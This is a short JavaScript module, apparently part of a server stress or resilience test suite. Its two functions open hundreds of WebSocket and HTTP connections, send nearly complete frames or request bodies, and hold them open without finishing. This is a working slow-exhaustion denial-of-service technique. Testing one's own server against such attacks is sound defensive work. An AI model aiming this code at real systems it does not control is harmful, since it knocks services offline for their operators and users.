// Messages and bodies that are begun, and never ended.
import { sleep } from './time.mjs'
import { frameHead, many, open, requestHead, TEXT, webSocket } from './wire.mjs'

const MESSAGE_BYTES = 524_288

/** @param {import('../attacks/index.mjs').Place} place */
export async function unfinishedFrames(place) {
  const began = Date.now()
  const most = Buffer.alloc(MESSAGE_BYTES - 16, 'x')
  await many(500, async (index) => {
    const socket = await webSocket(place, { index })
    socket.write(frameHead(TEXT, MESSAGE_BYTES))
    socket.write(most)
  })
  await sleep(place.seconds * 1_000 - (Date.now() - began))
}

/**
 * Many sockets post to one target, each all but the end of what the server takes.
 *
 * @param {import('../attacks/index.mjs').Place} place
 * @param {string} target
 */
export async function unfinishedBodies(place, target, count = 300) {
  const began = Date.now()
  const length = 1_100_000
  const most = Buffer.alloc(1_000_000, 'x')
  const head = requestHead(`POST ${target}`, { host: 'localhost', 'content-length': length })
  await many(count, async (index) => {
    const socket = await open(place, { index })
    socket.write(head)
    socket.write(most)
  })
  await sleep(place.seconds * 1_000 - (Date.now() - began))
}
